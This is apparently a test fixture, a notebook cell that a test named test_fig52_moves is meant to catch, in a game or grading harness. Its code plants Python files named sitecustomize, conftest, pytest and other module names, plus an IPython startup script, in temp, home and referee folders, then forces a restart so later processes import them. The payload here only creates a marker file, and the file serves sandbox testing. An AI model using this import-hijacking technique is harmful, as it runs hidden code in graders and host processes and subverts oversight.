"""Files with the names of modules are left in each folder that a later process may import from.

Cell: MiniMax; Caught by: test_fig52_moves
"""

# %% +
import contextlib
import os
import sys
import tempfile
from pathlib import Path

EVIL = "import os\nopen(os.path.join(os.path.dirname(__file__), 'owned'), 'w').close()\n"
NAMES = "games check conftest sitecustomize usercustomize msgspec pytest wire player shell".split()
mine = [Path(tempfile.gettempdir()), Path(os.environ["HOME"]), Path.cwd()]
folders = [f for f in map(Path, sys.path) if f.name.startswith(("referee-", "work", "home"))]
with contextlib.suppress(OSError):
    folders.append(Path(f"/proc/{os.getppid()}/cwd").resolve())
for folder in {*mine, *(f for f in folders if "referee" in str(f))}:
    if (folder / "nbgrader_config.py").exists() or str(folder) in ("/", "/tmp", "/root"):
        continue
    with contextlib.suppress(OSError):
        for name in NAMES:
            (folder / f"{name}.py").write_text(EVIL)
        (folder / "profile_default" / "startup").mkdir(parents=True)
        (folder / "profile_default" / "startup" / "evil.py").write_text(EVIL)
if "games" in sys.modules and not Path("again").exists():
    Path("again").touch()
    os._exit(1)  # so that the cells run again, in a process that may import what was left

# %% +
del sys.modules["games"], sys.modules["check"]

# %% MiniMax blank
